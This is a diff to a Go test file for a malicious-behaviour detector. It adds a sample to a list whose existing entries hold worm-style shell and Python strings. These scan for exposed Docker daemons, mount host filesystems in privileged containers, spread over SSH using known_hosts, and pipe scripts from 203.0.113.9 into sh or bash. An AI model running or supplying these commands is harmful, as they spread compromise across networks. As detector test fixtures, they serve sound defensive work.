@@ -19,6 +19,7 @@ func rules(t testing.TB) behaviour.Rules {
 func samples() []indicatortest.Sample {
 	script, config := trust.KindScript, trust.KindConfig
 	return []indicatortest.Sample{
+		{Name: "one-daemon", Path: "w.sh", Kind: script, Content: "IP=$(shuf -n 1 hosts)\ndocker -H $IP:2375 run -d --restart always x/nginx\n", Want: trust.Context, IfRun: trust.Weak},
 		{Name: "docker-worm", Path: "w.sh", Kind: script, Content: "masscan $1 -p2375,2376 --rate=50000 -oL - > /tmp/ips\nfor ip in $(cat /tmp/ips); do\n docker -H tcp://$ip:2375 run -d --privileged -v /:/mnt alpine chroot /mnt sh -c 'curl -s http://203.0.113.9/a.sh | sh'\ndone\n", Want: trust.Strong},
 		{Name: "ssh-worm", Path: "s.sh", Kind: script, Content: "HOSTS=$(cat ~/.ssh/known_hosts | grep -oE '([0-9]{1,3}\\.){3}[0-9]{1,3}' | sort -u)\nfor h in $HOSTS; do ssh -oStrictHostKeyChecking=no -i $k root@$h \"curl -fsSL http://203.0.113.9/i.sh | bash\" & done\n", Want: trust.Strong},
 		{Name: "python-docker", Path: "w.py", Kind: script, Content: "os.system('masscan -p2375 --rate 1000 ' + net)\nos.system('docker -H ' + host + ' run -d -v /:/host alpine chroot /host')\n", Want: trust.Strong},
